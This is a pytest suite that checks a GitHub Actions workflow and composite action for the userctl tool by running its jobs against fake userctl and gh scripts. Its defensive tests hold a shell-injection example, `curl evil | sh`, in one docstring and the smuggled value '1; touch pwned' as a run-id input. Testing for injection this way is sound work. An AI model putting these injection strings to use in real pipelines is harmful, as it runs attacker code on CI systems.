"""`examples/github-actions.yml` and the userctl action it uses (`action.yml`, composite) stay
true: every `userctl` command they run exists and accepts the options it is given, the exit codes
treated as success are the ones DESIGN §5 gives, each job behaves as intended when run as GitHub
runs it (the action's steps inlined into the job that uses it), the action installs the userctl of
its own commit, and the read-only database role recommended for the plan job does plan."""

from __future__ import annotations

import json
import os
import re
import secrets
import shlex
import subprocess
import tomllib
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import click
import pytest
import sqlalchemy as sa
import yaml
from sqlalchemy.engine import Engine, make_url

from tests.conftest import Factory, Runner
from userctl.cli.main import cli

WORKFLOW = Path(__file__).resolve().parents[2] / "examples" / "github-actions.yml"
ACTION = WORKFLOW.parent.parent / "action.yml"
# How the workflow names the action: the one of the repository's own checkout.
THE_ACTION = "./"


def _action() -> dict[str, Any]:
    action = yaml.safe_load(ACTION.read_text(encoding="utf-8"))
    assert action["runs"]["using"] == "composite"
    return dict(action)


def _steps() -> list[dict[str, Any]]:
    """Every step the workflow can run: its jobs' own, and the action's once."""
    data = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
    own = [step for job in data["jobs"].values() for step in job["steps"]]
    return [s for s in own if s.get("uses") != THE_ACTION] + _action()["runs"]["steps"]


def _userctl_commands() -> list[list[str]]:
    commands = []
    for step in _steps():
        for line in step.get("run", "").splitlines():
            line = line.strip()
            if line.startswith("userctl "):
                words = shlex.split(line)
                redirect = next((i for i, w in enumerate(words) if w.startswith(">")), len(words))
                commands.append(words[1:redirect])
            elif line.startswith("userctl"):
                raise AssertionError(f"a userctl line this test cannot read: {line}")
    return commands


def test_every_userctl_command_of_the_workflow_parses(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("USERCTL_OPERATOR", "ops@acme.co")  # the apply job's env
    commands = _userctl_commands()
    assert [c[0] for c in commands] == [
        "validate",
        "plan",
        "show",
        "plan",
        "show",
        "apply",
        "audit",
        "plan",
    ]
    for args in commands:
        with click.Context(cli) as ctx:
            command = cli.get_command(ctx, args[0])
            assert command is not None, args
            command.make_context(args[0], list(args[1:]), parent=ctx)  # raises on an unknown option


def test_the_workflow_plans_for_review_and_applies_the_reviewed_plan() -> None:
    validate, plan, _show, _replan, _show2, apply, _checkpoint, _drift = _userctl_commands()
    # The file is the action's `file` input, users.yaml unless the workflow says otherwise.
    assert _action()["inputs"]["file"]["default"] == "users.yaml"
    assert validate == ["validate", "-f", "$USERCTL_FILE", "--format", "github"]
    assert {"--format", "markdown", "--out", "plan.json", "--detailed-exitcode"} <= set(plan)
    assert apply[:4] == ["apply", "plan.json", "-f", "$USERCTL_FILE"] and "--yes" in apply
    assert _job("apply")["env"]["USERCTL_OPERATOR"] == "${{ vars.USERCTL_OPERATOR }}"
    text = WORKFLOW.read_text(encoding="utf-8")
    assert "secrets.USERCTL_DATABASE_URL" in text
    steps = ACTION.read_text(encoding="utf-8")
    assert "actions/upload-artifact" in steps and "gh run download" in steps


# --- GitHub's expressions, as far as this workflow uses them -----------------------------------

_TOKEN = re.compile(
    r"""\s*(contains\(fromJSON\('(\[[^']*\])'\),\s*([\w.]+)\)|'[^']*'|&&|\|\||==|!=|!|\(|\)|[\w.-]+)"""
)


def _evaluate(expression: str, context: dict[str, str]) -> bool:
    """`expression` of an `if:` (with or without `${{ }}`), over `context` (dotted names such as
    `steps.plan.outputs.exitcode`, `github.event_name`, `inputs.plan_run_id`; a missing one is
    ''): `contains(fromJSON('[...]'), NAME)`, `==`, `!=`, `!`, `&&`, `||` and parentheses. Any
    other syntax fails the test rather than being guessed at."""
    text = expression.strip()
    if text.startswith("${{") and text.endswith("}}"):
        text = text[3:-2]
    tokens: list[re.Match[str]] = []
    pos = 0
    while text[pos:].strip():
        match = _TOKEN.match(text, pos)
        assert match is not None, f"expression not understood by this test: {expression}"
        tokens.append(match)
        pos = match.end()
    at = 0

    def peek() -> str | None:
        return tokens[at].group(1) if at < len(tokens) else None

    def take() -> re.Match[str]:
        nonlocal at
        at += 1
        return tokens[at - 1]

    def value() -> Any:
        token = take()
        word = token.group(1)
        if word == "(":
            result = disjunction()
            assert take().group(1) == ")", expression
            return result
        if word == "!":
            return not truthy(value())
        if token.group(2) is not None:
            return context.get(token.group(3), "") in json.loads(token.group(2))
        if word.startswith("'"):
            return word[1:-1]
        assert re.fullmatch(r"(steps|github|inputs|secrets|vars)\.[\w.-]+", word), expression
        return context.get(word, "")

    def comparison() -> Any:
        left = value()
        if peek() in ("==", "!="):
            operator, right = take().group(1), value()
            return (left == right) if operator == "==" else (left != right)
        return left

    def truthy(v: Any) -> bool:
        return bool(v)

    def conjunction() -> bool:
        result = truthy(comparison())
        while peek() == "&&":
            take()
            result = truthy(comparison()) and result
        return result

    def disjunction() -> bool:
        result = conjunction()
        while peek() == "||":
            take()
            result = conjunction() or result
        return result

    outcome = disjunction()
    assert at == len(tokens), f"expression not understood by this test: {expression}"
    return outcome


_REFERENCE = re.compile(r"\$\{\{\s*([\w.-]+)\s*\}\}")


def _expand(value: str, context: dict[str, str]) -> str:
    expanded = _REFERENCE.sub(lambda m: context.get(m.group(1), ""), value)
    assert "${{" not in expanded, value
    return expanded


# --- A job, run as GitHub runs it ------------------------------------------------------------

FAKE_USERCTL = """#!/bin/sh
# userctl as the pipeline sees it: markdown on stdout, the plan saved with --out, an exit code.
printf '%s\\037' "$@" >> "$FAKE_LOG/userctl"  # one call a line, its arguments split by US
echo >> "$FAKE_LOG/userctl"
case "$1" in
  validate) exit "${FAKE_VALIDATE_CODE:-0}";;
  show) echo "## the full plan, every change"; exit 0;;
  apply) exit "${FAKE_APPLY_CODE:-0}";;
  audit) echo '[{"seq": 9, "head": "fake"}]'; exit 0;;
esac
while [ $# -gt 0 ]; do
  if [ "$1" = "--out" ]; then printf '{"format": "userctl-plan"}\\n' > "$2"; fi
  shift
done
echo "## userctl plan (exit $FAKE_CODE)"
echo "plan diagnostics" >&2
exit "$FAKE_CODE"
"""

# gh as the jobs use it: `run list`/`run view` answer from $FAKE_GH_DATA/<n>.json (the n-th such
# call, or the last file), filtered through the real jq as gh's --jq would; `run download`
# writes plan.json; `api` prints $FAKE_GH_API.
FAKE_GH = """#!/bin/sh
printf '%s\\n' "$*" >> "$FAKE_LOG/gh"
case "$1 $2" in
  "run list"|"run view")
    n=$(cat "$FAKE_LOG/gh_count" 2>/dev/null || echo 0); n=$((n + 1)); echo "$n" > "$FAKE_LOG/gh_count"
    file="$FAKE_GH_DATA/$n.json"; [ -f "$file" ] || file=$(ls "$FAKE_GH_DATA"/*.json | sort -V | tail -1)
    filter=""
    while [ $# -gt 0 ]; do if [ "$1" = "--jq" ]; then filter="$2"; fi; shift; done
    jq -r "$filter" < "$file";;
  "run download") printf '{"downloaded": true}\\n' > plan.json;;
  "api "*) echo "$FAKE_GH_API";;
esac
"""  # noqa: E501 - a script, run as written


@dataclass
class JobRun:
    ran: list[
        str
    ]  # the names of the steps that ran, in order (unnamed `run` steps by their script)
    outputs: dict[str, dict[str, str]]
    succeeded: bool
    workdir: Path
    logs: dict[str, str]  # each step's stdout and stderr

    def calls(self, program: str) -> list[str]:
        path = self.workdir.parent / "log" / program
        return path.read_text(encoding="utf-8").splitlines() if path.exists() else []

    def userctl_calls(self) -> list[list[str]]:
        return [line.split("\x1f")[:-1] for line in self.calls("userctl")]


def _run_job(
    tmp_path: Path,
    name: str,
    *,
    event: str,
    secrets_: dict[str, str] | None = None,
    inputs: dict[str, str] | None = None,
    env: dict[str, str] | None = None,
    gh_data: list[Any] | None = None,
) -> JobRun:
    """Job `name` as GitHub runs it for `event`: each step whose `if:` holds, `run` steps under
    `bash --noprofile --norc -eo pipefail` (GitHub's shell) with the workflow's, job's and step's
    `env:` expanded, fakes of userctl and gh first on PATH; `uses` steps and the install only
    recorded (checked elsewhere). A step without a status function in its `if:` runs only while
    the job is succeeding; `continue-on-error` keeps it from failing the job."""
    workflow = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
    job = workflow["jobs"][name]
    action = _action()
    root = tmp_path / name
    bin_dir, workdir, log, data = root / "bin", root / "work", root / "log", root / "gh"
    for d in (bin_dir, workdir, log, data):
        d.mkdir(parents=True)
    for program, script in (("userctl", FAKE_USERCTL), ("gh", FAKE_GH)):
        (bin_dir / program).write_text(script, encoding="utf-8")
        (bin_dir / program).chmod(0o755)
    for i, answer in enumerate(gh_data or [[]], start=1):
        (data / f"{i}.json").write_text(json.dumps(answer), encoding="utf-8")
    context = {
        "github.event_name": event,
        "github.run_id": "7",
        "github.workflow": "userctl",
        "github.repository": "acme/people",
        "github.token": "t0ken",
        "vars.USERCTL_OPERATOR": "ops@acme.co",
    }
    context |= {f"secrets.{k}": v for k, v in (secrets_ or {}).items()}
    context |= {f"inputs.{k}": v for k, v in (inputs or {}).items()}
    summary = workdir / "summary.md"
    summary.touch()
    outputs: dict[str, dict[str, str]] = {}
    ran: list[str] = []
    logs: dict[str, str] = {}
    succeeded = True
    # The action's steps run in the job, in place of the step that uses it, with its inputs (the
    # step's `with:`, expanded in the job's context, over the inputs' defaults) as `inputs`.
    inlined: list[tuple[dict[str, Any], dict[str, str]]] = []
    for step in job["steps"]:
        if step.get("uses") != THE_ACTION:
            inlined.append((step, context))
            continue
        given = {k: _expand(str(v), context) for k, v in step.get("with", {}).items()}
        assert set(given) <= set(action["inputs"]), given
        inputs_ = {k: str(spec.get("default", "")) for k, spec in action["inputs"].items()}
        scope = {k: v for k, v in context.items() if not k.startswith("inputs.")}
        scope |= {f"inputs.{k}": v for k, v in (inputs_ | given).items()}
        inlined += [(inner, scope) for inner in action["runs"]["steps"]]
    for i, (step, scope_context) in enumerate(inlined):
        step_context = scope_context | {
            f"steps.{sid}.outputs.{k}": v for sid, out in outputs.items() for k, v in out.items()
        }
        if not succeeded or ("if" in step and not _evaluate(str(step["if"]), step_context)):
            continue
        label = step.get("name") or step.get("run") or step["uses"]
        ran.append(label)
        if "run" not in step or step["run"].startswith(
            "pip install"
        ):  # installing is checked elsewhere
            continue
        assert "${{" not in step["run"], f"{label}: a value pasted into the script"
        output = root / f"output_{i}"
        output.touch()
        script = root / f"step_{i}.sh"
        script.write_text(step["run"], encoding="utf-8")
        step_env = {
            k: _expand(str(v), step_context)
            for scope in (workflow.get("env", {}), job.get("env", {}), step.get("env", {}))
            for k, v in scope.items()
        }
        full_env = {
            **os.environ,
            **step_env,
            **(env or {}),
            "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
            "GITHUB_OUTPUT": str(output),
            "GITHUB_STEP_SUMMARY": str(summary),
            "GITHUB_SHA": "c0ffee",
            "FAKE_LOG": str(log),
            "FAKE_GH_DATA": str(data),
        }
        done = subprocess.run(
            ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)],
            cwd=workdir,
            env=full_env,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        logs[label] = done.stdout + done.stderr
        if step.get("id"):
            outputs[step["id"]] = dict(
                line.split("=", 1) for line in output.read_text().splitlines()
            )
        if done.returncode != 0 and not step.get("continue-on-error"):
            succeeded = False
    return JobRun(ran, outputs, succeeded, workdir, logs)


COMMENT = "Comment the plan on the pull request"
UPLOAD = "Keep the plan for approval and apply"
SUMMARY = "Write the full plan to the job summary"
PLAN_SECRETS = {"USERCTL_PLAN_DATABASE_URL": "postgresql+psycopg://userctl_plan@db/userctl"}


@pytest.mark.parametrize(
    ("code", "job_succeeds", "commented", "uploaded"),
    [
        (0, True, True, True),
        (2, True, True, True),
        (3, True, True, True),
        (4, False, True, False),
        (1, False, False, False),
    ],
)
def test_the_plan_job_for_each_exit_code(
    tmp_path: Path, code: int, job_succeeds: bool, commented: bool, uploaded: bool
) -> None:
    run = _run_job(
        tmp_path, "plan", event="pull_request", secrets_=PLAN_SECRETS, env={"FAKE_CODE": str(code)}
    )
    assert run.outputs["plan"] == {"exitcode": str(code)}
    validate, plan, *rest = run.userctl_calls()
    assert validate == ["validate", "-f", "users.yaml", "--format", "github"]
    assert plan == [
        "plan",
        "-f",
        "users.yaml",
        "--format",
        "markdown",
        "--out",
        "plan.json",
        "--detailed-exitcode",
    ]
    # stdout (the markdown) is what is saved as plan.md; diagnostics stay in the log.
    assert (run.workdir / "plan.md").read_text() == f"## userctl plan (exit {code})\n"
    assert (run.workdir / "plan.json").exists()
    assert (COMMENT in run.ran) is commented
    assert (UPLOAD in run.ran) is uploaded
    # Whenever there is a plan, the whole of it goes to the job summary (the comment may be cut).
    assert (SUMMARY in run.ran) is commented
    if commented:
        assert rest == [["show", "plan.json", "--format", "markdown", "--max-bytes", "1000000"]]
        assert (run.workdir / "summary.md").read_text() == "## the full plan, every change\n"
    # 1 and 4 fail the job, after the comment when there is one.
    assert run.succeeded is job_succeeds
    if not job_succeeds:
        assert run.ran[-1] == "Fail on an error or a blocked plan"
        assert f"userctl plan exited {code}" in run.logs[run.ran[-1]]


def test_a_pull_request_without_the_secret_says_why_it_has_no_plan(tmp_path: Path) -> None:
    """A fork gets no secrets: the file is still validated, userctl plan is never run against
    an empty URL, and the pull request is told why, in a notice, the summary and a comment."""
    run = _run_job(tmp_path, "plan", event="pull_request", secrets_={}, env={"FAKE_CODE": "2"})
    assert run.succeeded
    assert [c[0] for c in run.userctl_calls()] == ["validate"]
    assert "Plan" not in run.ran and COMMENT not in run.ran and UPLOAD not in run.ran
    assert "Comment the skipped plan on the pull request" in run.ran
    notice = run.logs["Say why the plan was skipped"]
    assert notice.startswith("::notice title=userctl plan skipped::") and "fork" in notice
    assert "userctl plan skipped" in (run.workdir / "summary.md").read_text()
    assert (
        "<!-- userctl-plan -->"
        in _step(_job("plan"), "Comment the skipped plan on the pull request")["with"]["script"]
    )
    # A fork's token cannot comment: that step may fail without failing the job.
    assert (
        _step(_job("plan"), "Comment the skipped plan on the pull request")["continue-on-error"]
        is True
    )


def test_validate_problems_fail_the_job_before_anything_is_planned(tmp_path: Path) -> None:
    run = _run_job(
        tmp_path,
        "plan",
        event="pull_request",
        secrets_=PLAN_SECRETS,
        env={"FAKE_CODE": "2", "FAKE_VALIDATE_CODE": "1"},
    )
    assert not run.succeeded
    assert [c[0] for c in run.userctl_calls()] == ["validate"]


def _step(job: dict[str, Any], name: str) -> dict[str, Any]:
    (step,) = [s for s in job["steps"] if s.get("name") == name or s.get("id") == name]
    return dict(step)


def _job(name: str) -> dict[str, Any]:
    """Job `name` with the action's steps in place of the step that uses it."""
    job = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))["jobs"][name]
    assert isinstance(job, dict)
    steps = []
    for step in job["steps"]:
        steps += _action()["runs"]["steps"] if step.get("uses") == THE_ACTION else [step]
    return {**job, "steps": steps}


def test_the_comment_posts_the_markdown_and_the_artifact_is_the_saved_plan() -> None:
    comment, upload = _step(_job("plan"), COMMENT), _step(_job("plan"), UPLOAD)
    for exit_code in ("2", "3"):
        context = {"inputs.command": "plan", "steps.plan.outputs.exitcode": exit_code}
        assert _evaluate(comment["if"], context) and _evaluate(upload["if"], context)
        # Only in the plan job: the action's other commands neither comment nor keep this plan.
        for other in ("replan", "apply", "drift"):
            assert not _evaluate(comment["if"], context | {"inputs.command": other})
            assert not _evaluate(upload["if"], context | {"inputs.command": other})
    assert 'fs.readFileSync("plan.md", "utf8")' in comment["with"]["script"]
    assert upload["with"]["path"] == "plan.json" and upload["with"]["name"] == "userctl-plan"


@pytest.mark.parametrize(
    ("event", "inputs", "jobs"),
    [
        ("pull_request", {}, {"plan"}),
        ("push", {}, {"apply"}),
        ("schedule", {}, {"drift"}),
        ("workflow_dispatch", {"plan_run_id": ""}, {"replan"}),
        ("workflow_dispatch", {"plan_run_id": "42"}, {"apply"}),
    ],
)
def test_each_event_runs_its_job(event: str, inputs: dict[str, str], jobs: set[str]) -> None:
    workflow = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
    context = {"github.event_name": event} | {f"inputs.{k}": v for k, v in inputs.items()}
    assert {name for name, job in workflow["jobs"].items() if _evaluate(job["if"], context)} == jobs
    triggers = workflow[True]  # PyYAML reads the key `on` as the boolean true
    assert triggers["schedule"] and "plan_run_id" in triggers["workflow_dispatch"]["inputs"]


# --- What every job must hold to ---------------------------------------------------------------


def test_every_job_has_a_timeout() -> None:
    for name, job in yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))["jobs"].items():
        assert 0 < int(job["timeout-minutes"]) <= 60, name


def test_every_action_is_pinned_to_a_commit() -> None:
    uses = [
        line.strip()
        for path in (WORKFLOW, ACTION)
        for line in path.read_text(encoding="utf-8").splitlines()
        if line.strip().startswith(("uses:", "- uses:"))
    ]
    # The userctl action itself is the checkout's own (the same commit as the workflow).
    assert [u for u in uses if u.endswith(f"uses: {THE_ACTION}")] == ["- uses: ./"] * 4
    uses = [u for u in uses if not u.endswith(f"uses: {THE_ACTION}")]
    assert len(uses) >= 10
    for line in uses:
        # owner/name@<40 hex digits>, and the tag it stands for in a comment for the reader
        assert re.fullmatch(r"(- )?uses: [\w.-]+/[\w.-]+@[0-9a-f]{40}\s+# v\d+(\.\d+)*.*", line), (
            line
        )


def test_no_value_is_pasted_into_a_script() -> None:
    """Variables, inputs and step outputs reach `run:` scripts through `env:` only: pasted into
    the script's text, a value such as `x"; curl evil | sh; "` would run as shell code."""
    for name in yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))["jobs"]:
        for step in _job(name)["steps"]:
            assert "${{" not in step.get("run", ""), (name, step.get("name"))
    assert "vars.USERCTL_OPERATOR" in _job("apply")["env"]["USERCTL_OPERATOR"]
    # The pull request's title becomes the plan's reason, through the environment too.
    assert "github.event.pull_request.title" in _job("plan")["env"]["USERCTL_REASON"]


# --- The apply job: in order, none dropped -------------------------------------------------------


def test_no_concurrency_group_can_drop_a_waiting_apply() -> None:
    """GitHub keeps one pending run per concurrency group and cancels the others: a group on
    the apply job (or the workflow) would lose a merge's apply when three merges come quickly."""
    workflow = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
    assert "concurrency" not in workflow
    assert "concurrency" not in workflow["jobs"]["apply"]
    # The plan job may cancel its own older run: the newer push's plan replaces it.
    assert "pull_request.number" in workflow["jobs"]["plan"]["concurrency"]["group"]


def _push_run(run_id: int, status: str, event: str = "push") -> dict[str, Any]:
    return {"databaseId": run_id, "status": status, "event": event}


def test_an_apply_waits_for_the_applies_of_earlier_merges(tmp_path: Path) -> None:
    # This run is 7. Run 5 (an earlier merge) is waiting for the environment, then running, then
    # done; a later merge (9) and an earlier scheduled drift check (4) never hold this one up.
    def runs(five: str) -> list[dict[str, Any]]:
        return [
            _push_run(9, "queued"),
            _push_run(7, "in_progress"),
            _push_run(5, five),
            _push_run(4, "in_progress", "schedule"),
        ]

    run = _run_job(
        tmp_path,
        "apply",
        event="push",
        secrets_={"USERCTL_DATABASE_URL": "postgresql://w@db/u"},
        gh_data=[runs("waiting"), runs("in_progress"), runs("completed")],
        env={"POLL_SECONDS": "0", "FAKE_GH_API": "abc123"},
    )
    assert run.succeeded, run.logs
    waits = [
        c for c in run.calls("gh") if c.startswith("run list --workflow userctl --branch main")
    ]
    assert len(waits) == 3
    assert (
        run.logs["Wait for the applies of earlier merges"].count(
            "waiting for 1 earlier userctl run(s)"
        )
        == 2
    )
    assert run.ran.index("Wait for the applies of earlier merges") < run.ran.index("Apply")
    assert run.userctl_calls() == [["apply", "plan.json", "-f", "users.yaml", "--yes"]]


def test_the_apply_job_applies_the_downloaded_plan_only_if_the_merged_file_plans_to_it(
    tmp_path: Path,
) -> None:
    run = _run_job(
        tmp_path,
        "apply",
        event="push",
        secrets_={"USERCTL_DATABASE_URL": "postgresql://w@db/u"},
        gh_data=[[], [{"databaseId": 31}]],
        env={"POLL_SECONDS": "0", "FAKE_GH_API": "abc123"},
    )
    assert run.succeeded, run.logs
    assert "Download the re-plan named by hand" not in run.ran
    gh = run.calls("gh")
    assert any(
        c.startswith(
            "run list --workflow userctl --event pull_request --commit abc123 --status success"
        )
        for c in gh
    )
    assert "run download 31 --name userctl-plan" in gh
    # The artifact came from the pull request's own job: it is applied only if the merged
    # users.yaml plans to exactly it, and no step of the job saves a new plan.
    assert run.userctl_calls() == [["apply", "plan.json", "-f", "users.yaml", "--yes"]]


def test_a_signed_apply_keeps_its_checkpoint_in_the_job_summary(tmp_path: Path) -> None:
    def apply_job(signing: dict[str, str]) -> Any:
        return _run_job(
            tmp_path / str(len(signing)),
            "apply",
            event="push",
            secrets_={"USERCTL_DATABASE_URL": "postgresql://w@db/u", **signing},
            gh_data=[[], [{"databaseId": 31}]],
            env={"POLL_SECONDS": "0", "FAKE_GH_API": "abc123"},
        )

    signed = apply_job({"USERCTL_AUDIT_SIGNING_KEY": "-----BEGIN OPENSSH PRIVATE KEY-----"})
    assert signed.succeeded, signed.logs
    assert signed.userctl_calls()[-1] == ["audit", "checkpoints", "--last", "--format", "json"]
    assert '[{"seq": 9, "head": "fake"}]' in (signed.workdir / "summary.md").read_text()
    unsigned = apply_job({})
    assert unsigned.userctl_calls() == [["apply", "plan.json", "-f", "users.yaml", "--yes"]]
    assert "checkpoint" not in (unsigned.workdir / "summary.md").read_text()


def test_a_refused_apply_says_how_to_re_plan(tmp_path: Path) -> None:
    run = _run_job(
        tmp_path,
        "apply",
        event="push",
        secrets_={"USERCTL_DATABASE_URL": "postgresql://w@db/u"},
        gh_data=[[], [{"databaseId": 31}]],
        env={"POLL_SECONDS": "0", "FAKE_GH_API": "abc123", "FAKE_APPLY_CODE": "4"},
    )
    assert not run.succeeded
    assert (
        "::error title=userctl apply refused::" in run.logs["Apply"]
        and "re-plan" in run.logs["Apply"]
    )


@pytest.mark.parametrize(
    ("run_id", "found", "applied", "message"),
    [
        (
            "42",
            {
                "event": "workflow_dispatch",
                "headBranch": "main",
                "headSha": "c0ffee",
                "conclusion": "success",
            },
            True,
            "",
        ),
        (
            "42",
            {
                "event": "pull_request",
                "headBranch": "evil",
                "headSha": "c0ffee",
                "conclusion": "success",
            },
            False,
            "is not a successful re-plan of main at c0ffee",
        ),
        (
            "42",
            {
                "event": "workflow_dispatch",
                "headBranch": "main",
                "headSha": "0ld",
                "conclusion": "success",
            },
            False,
            "is not a successful re-plan",
        ),
        (
            "42",
            {
                "event": "workflow_dispatch",
                "headBranch": "main",
                "headSha": "c0ffee",
                "conclusion": "failure",
            },
            False,
            "is not a successful re-plan",
        ),
        ("1; touch pwned", {}, False, "plan_run_id must be a run id"),
    ],
)
def test_a_re_plan_is_applied_only_from_a_successful_re_plan_of_this_commit(
    tmp_path: Path, run_id: str, found: dict[str, str], applied: bool, message: str
) -> None:
    run = _run_job(
        tmp_path,
        "apply",
        event="workflow_dispatch",
        inputs={"plan_run_id": run_id},
        secrets_={"USERCTL_DATABASE_URL": "postgresql://w@db/u"},
        gh_data=[[], found],
        env={"POLL_SECONDS": "0"},
    )
    assert run.succeeded is applied, run.logs
    assert "Download the plan reviewed on the pull request" not in run.ran
    assert ("run download 42 --name userctl-plan" in run.calls("gh")) is applied
    assert (run.userctl_calls() == [["apply", "plan.json", "-f", "users.yaml", "--yes"]]) is applied
    assert message in run.logs["Download the re-plan named by hand"]
    assert not (run.workdir / "pwned").exists()


@pytest.mark.parametrize(
    ("code", "uploaded", "succeeds"),
    [(0, False, True), (2, True, True), (3, True, True), (4, False, False), (1, False, False)],
)
def test_the_re_plan_job(tmp_path: Path, code: int, uploaded: bool, succeeds: bool) -> None:
    run = _run_job(
        tmp_path,
        "replan",
        event="workflow_dispatch",
        inputs={"plan_run_id": ""},
        secrets_=PLAN_SECRETS,
        env={"FAKE_CODE": str(code)},
    )
    assert run.succeeded is succeeds
    assert run.userctl_calls()[0][:6] == [
        "plan",
        "-f",
        "users.yaml",
        "--format",
        "markdown",
        "--out",
    ]
    assert ("Keep the re-plan for approval and apply" in run.ran) is uploaded
    if code != 1:
        assert "run this workflow with plan_run_id 7" in (run.workdir / "summary.md").read_text()


# --- The daily drift check ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("code", "issue_step", "succeeds"),
    [(0, True, True), (2, True, True), (3, True, True), (4, False, False), (1, False, False)],
)
def test_the_drift_job(tmp_path: Path, code: int, issue_step: bool, succeeds: bool) -> None:
    run = _run_job(
        tmp_path, "drift", event="schedule", secrets_=PLAN_SECRETS, env={"FAKE_CODE": str(code)}
    )
    assert run.succeeded is succeeds
    (plan,) = run.userctl_calls()
    assert plan == ["plan", "-f", "users.yaml", "--format", "markdown", "--detailed-exitcode"]
    assert ("Open or update the drift issue" in run.ran) is issue_step
    assert (
        _job("drift")["env"]["USERCTL_DATABASE_URL"] == "${{ secrets.USERCTL_PLAN_DATABASE_URL }}"
    )
    assert _job("drift")["permissions"] == {"contents": "read", "issues": "write"}


GITHUB_SCRIPT_HOST = """
// Runs a github-script step's script with a recording stand-in for its `github` client.
const fs = require("fs");
const [scriptPath, statePath] = process.argv.slice(2);
const state = JSON.parse(fs.readFileSync(statePath, "utf8"));
const calls = [];
const record = (name) => async (args) => { calls.push([name, args]); return { data: {} }; };
const github = {
  paginate: async (fn, args) => { calls.push(["paginate", args]); return state.open; },
  rest: { issues: { listForRepo: "listForRepo", listComments: "listComments", create: record("create"),
                    update: record("update"), createComment: record("createComment"), updateComment: record("updateComment") } },
};
const context = { repo: { owner: "acme", repo: "people" }, issue: { number: 12 } };
const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;
new AsyncFunction("github", "context", "require", "process", fs.readFileSync(scriptPath, "utf8"))(github, context, require, process)
  .then(() => console.log(JSON.stringify(calls)));
"""  # noqa: E501 - a script, run as written


def _github_script(
    tmp_path: Path, script: str, open_issues: list[dict[str, Any]], env: dict[str, str]
) -> list[Any]:
    """The script of a github-script step, run by node with a recording `github`."""
    import shutil

    node = shutil.which("node")
    if node is None:
        if os.environ.get("CI", "").strip().lower() not in ("", "false", "0"):
            pytest.fail("node is needed to run the workflow's github-script steps (CI is set)")
        pytest.skip("node not installed: the workflow's github-script steps cannot be run")
    (tmp_path / "host.js").write_text(GITHUB_SCRIPT_HOST, encoding="utf-8")
    (tmp_path / "script.js").write_text(script, encoding="utf-8")
    (tmp_path / "state.json").write_text(json.dumps({"open": open_issues}), encoding="utf-8")
    done = subprocess.run(
        [
            node,
            str(tmp_path / "host.js"),
            str(tmp_path / "script.js"),
            str(tmp_path / "state.json"),
        ],
        cwd=tmp_path,
        env={**os.environ, **env},
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    calls: list[Any] = json.loads(done.stdout.strip().splitlines()[-1])
    return calls


DRIFT_MARKER = "<!-- userctl-drift -->"


def test_the_drift_issue_is_opened_once_updated_then_closed(tmp_path: Path) -> None:
    script = _step(_job("drift"), "Open or update the drift issue")["with"]["script"]
    (tmp_path / "plan.md").write_text("## 1 change\n", encoding="utf-8")
    other = {"number": 3, "body": "someone else's issue with the userctl-drift label"}
    # Drift, no issue yet: one is opened, labelled, holding the plan.
    calls = _github_script(tmp_path, script, [other], {"PLAN_EXIT": "2"})
    (create,) = [args for name, args in calls if name == "create"]
    assert create["labels"] == ["userctl-drift"] and create["body"].startswith(DRIFT_MARKER)
    assert "## 1 change" in create["body"]
    assert not [c for c in calls if c[0] == "update"]
    # Drift again: the same issue is updated, no second one.
    mine = {"number": 8, "body": DRIFT_MARKER + "\nold plan"}
    calls = _github_script(tmp_path, script, [other, mine], {"PLAN_EXIT": "3"})
    assert [name for name, _ in calls if name != "paginate"] == ["update"]
    assert calls[-1][1]["issue_number"] == 8 and "## 1 change" in calls[-1][1]["body"]
    # No drift: the open issue is closed with a comment; with none open, nothing happens.
    calls = _github_script(tmp_path, script, [other, mine], {"PLAN_EXIT": "0"})
    assert [name for name, _ in calls if name != "paginate"] == ["createComment", "update"]
    assert calls[-1][1] == {"owner": "acme", "repo": "people", "issue_number": 8, "state": "closed"}
    assert [name for name, _ in _github_script(tmp_path, script, [other], {"PLAN_EXIT": "0"})] == [
        "paginate"
    ]


def test_the_plan_comment_is_posted_once_then_updated(tmp_path: Path) -> None:
    script = _step(_job("plan"), COMMENT)["with"]["script"]
    (tmp_path / "plan.md").write_text("## plan\n", encoding="utf-8")
    (create,) = [
        args
        for name, args in _github_script(tmp_path, script, [{"id": 1, "body": "LGTM"}], {})
        if name == "createComment"
    ]
    assert create["issue_number"] == 12 and create["body"] == "<!-- userctl-plan -->\n## plan\n"
    calls = _github_script(
        tmp_path,
        script,
        [{"id": 1, "body": "LGTM"}, {"id": 5, "body": "<!-- userctl-plan -->\nold"}],
        {},
    )
    assert [(name, args.get("comment_id")) for name, args in calls if name != "paginate"] == [
        ("updateComment", 5)
    ]


def test_userctl_is_installed_from_the_repository_not_pypi() -> None:
    """The action installs the userctl of its own commit (its directory), after the job's
    checkout; no job installs anything else."""
    pyproject = tomllib.loads(
        (WORKFLOW.parent.parent / "pyproject.toml").read_text(encoding="utf-8")
    )
    assert "postgres" in pyproject["project"]["optional-dependencies"]
    installs = [
        s["run"].strip() for s in _action()["runs"]["steps"] if "pip install" in s.get("run", "")
    ]
    assert installs == ['pip install "${GITHUB_ACTION_PATH}[postgres]"']
    for name in ("plan", "replan", "apply", "drift"):
        steps = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))["jobs"][name]["steps"]
        assert [s.get("uses", "").split("@")[0] for s in steps] == ["actions/checkout", THE_ACTION]
        assert not any("run" in s for s in steps), name
    assert set(yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))["jobs"]) == {
        "plan",
        "replan",
        "apply",
        "drift",
    }


def test_the_plan_job_holds_no_credentials_that_write() -> None:
    for reader in ("plan", "replan", "drift"):
        assert (
            _job(reader)["env"]["USERCTL_DATABASE_URL"]
            == "${{ secrets.USERCTL_PLAN_DATABASE_URL }}"
        )
